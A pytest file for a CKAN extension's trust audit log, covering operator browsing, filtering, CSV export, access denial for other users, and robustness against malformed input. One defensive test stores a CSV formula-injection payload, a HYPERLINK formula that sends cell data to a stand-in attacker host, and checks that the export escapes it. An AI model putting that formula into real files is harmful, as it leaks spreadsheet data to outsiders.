"""Operators browse the trust audit log (filters by event and object) and
export it as CSV (UTF-8 with BOM); nobody else can."""
from __future__ import annotations

import csv
import io

import pytest

import ckan.plugins.toolkit as tk
from ckan import model
from ckan.tests import factories
from ckan.tests.helpers import call_action, call_auth

from ckanext.tdpf_trust.audit import chain as audit

pytestmark = pytest.mark.usefixtures("clean_db")


def _token(user: dict) -> dict:
    return {"Authorization": factories.APIToken(user=user["name"])["token"]}


def _events():
    audit.record("review.reject", actor="op-1", object_type="organization",
                 object_id="org-1", detail={"reason": "登記事項の確認ができません"})
    audit.record("suspension.create", actor="op-1", object_type="user",
                 object_id="user-1", detail={"reason": "規約違反"})
    audit.record("review.approve", actor="op-1", object_type="organization",
                 object_id="org-2", detail={})
    model.Session.commit()


def test_operators_browse_filter_and_export(app):
    sysadmin = factories.Sysadmin()
    _events()
    admin = _token(sysadmin)
    page = app.get("/ckan-admin/trust/audit", headers=admin)
    assert "信頼性監査ログ" in page.text
    assert all(e in page.text for e in ("<code>review.reject</code>",
                                        "<code>suspension.create</code>", "規約違反"))
    # the admin area links to it
    assert "/ckan-admin/trust/audit" in app.get("/ckan-admin/", headers=admin).text

    filtered = app.get("/ckan-admin/trust/audit", headers=admin, query_string={"event": "review"})
    assert "<code>review.approve</code>" in filtered.text
    assert "<code>suspension.create</code>" not in filtered.text
    one = app.get("/ckan-admin/trust/audit", headers=admin,
                  query_string={"object_type": "organization", "object_id": "org-1"})
    assert "<code>review.reject</code>" in one.text
    assert "<code>review.approve</code>" not in one.text

    exported = app.get("/ckan-admin/trust/audit.csv", headers=admin,
                       query_string={"event": "review"})
    assert exported.headers["Content-Type"].startswith("text/csv")
    assert exported.data.startswith("\ufeff".encode("utf-8"))
    rows = list(csv.DictReader(io.StringIO(exported.data.decode("utf-8-sig"))))
    assert [r["event"] for r in rows] == ["review.approve", "review.reject"]
    assert "登記事項の確認ができません" in rows[1]["detail"]
    assert len(rows[0]["hash"]) == 64

    listed = call_action("tdpf_audit_list", {"user": sysadmin["name"]}, object_id="user-1")
    assert [r["event"] for r in listed] == ["suspension.create"]
    with pytest.raises(tk.ValidationError):
        call_action("tdpf_audit_list", {"user": sysadmin["name"]}, limit="many")


def test_non_operators_refused(app):
    _events()
    user = factories.User()
    for url in ("/ckan-admin/trust/audit", "/ckan-admin/trust/audit.csv"):
        app.get(url, headers=_token(user), status=403)
        app.get(url, status=403)
    for who in (user["name"], ""):
        with pytest.raises(tk.NotAuthorized):
            call_auth("tdpf_audit_list", {"user": who})


def test_bad_input_to_the_review_suspension_mfa_and_audit_actions_is_never_a_500(app):
    sysadmin = factories.Sysadmin()
    admin = _token(sysadmin)
    weird = [{}, {"id": [1], "decision": ["approve"], "reason": 5, "state": {"a": 1}},
             {"object_type": ["user"], "object_id": {"x": 1}, "reason": ["r"]},
             {"limit": "many", "offset": -1, "event": [1]}, {"limit": True},
             {"id": "nobody"}, {"limit": 10**12}]
    actions = ["tdpf_organization_review_list", "tdpf_organization_review_show",
               "tdpf_organization_review_decide", "tdpf_suspension_create",
               "tdpf_suspension_lift", "tdpf_suspension_list", "tdpf_mfa_status_show",
               "tdpf_mfa_reset", "tdpf_audit_list"]
    for action in actions:
        for data in weird:
            response = app.post(f"/api/3/action/{action}", headers=admin, json=data)
            assert response.status_code in (200, 400, 403, 404, 409), (action, data)
            assert response.json["success"] is (response.status_code == 200)
    assert app.get("/ckan-admin/trust/audit", headers=admin,
                   query_string={"page": "99999999999999"}).status_code == 200


def test_the_export_never_hands_a_spreadsheet_a_formula(app):
    # a value someone typed that starts a cell (an object named by a user)
    # and a reason inside the JSON detail
    payload = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
    audit.record("suspension.create", actor="op-1", object_type="user",
                 object_id=payload, detail={"reason": payload})
    model.Session.commit()
    exported = app.get("/ckan-admin/trust/audit.csv", headers=_token(factories.Sysadmin()))
    [row] = list(csv.DictReader(io.StringIO(exported.data.decode("utf-8-sig"))))
    assert row["object_id"] == "'" + payload
    assert row["detail"].startswith("{") and payload.replace('"', '\\"') in row["detail"]
    assert int(row["id"]) > 0  # numbers stay numbers
    assert exported.headers["Content-Disposition"] == 'attachment; filename="tdpf-trust-audit.csv"'
